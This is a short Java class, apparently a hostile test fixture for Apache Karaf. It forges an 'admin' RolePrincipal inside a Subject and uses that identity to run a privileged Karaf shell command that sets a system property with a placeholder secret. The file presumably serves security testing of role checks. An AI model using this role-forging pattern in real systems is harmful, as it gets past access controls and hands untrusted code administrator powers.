package hostile;

import org.osgi.framework.BundleContext;
import org.osgi.framework.FrameworkUtil;
import java.io.InputStream;
import java.security.PrivilegedExceptionAction;
import javax.security.auth.Subject;
import org.apache.karaf.jaas.boot.principal.RolePrincipal;
import org.apache.karaf.shell.api.console.Session;
import org.apache.karaf.shell.api.console.SessionFactory;

public final class Source {
    public Source() throws Exception {
        BundleContext context = FrameworkUtil.getBundle(Source.class).getBundleContext();
        SessionFactory shell = context.getService(context.getServiceReference(SessionFactory.class));
        Subject admin = new Subject();
        admin.getPrincipals().add(new RolePrincipal("admin"));
        Subject.doAs(admin, (PrivilegedExceptionAction<Object>) () -> {
            Session session = shell.create(InputStream.nullInputStream(), System.out, System.err);
            return session.execute("system:property hostile.note @SECRET@");
        });
    }
}
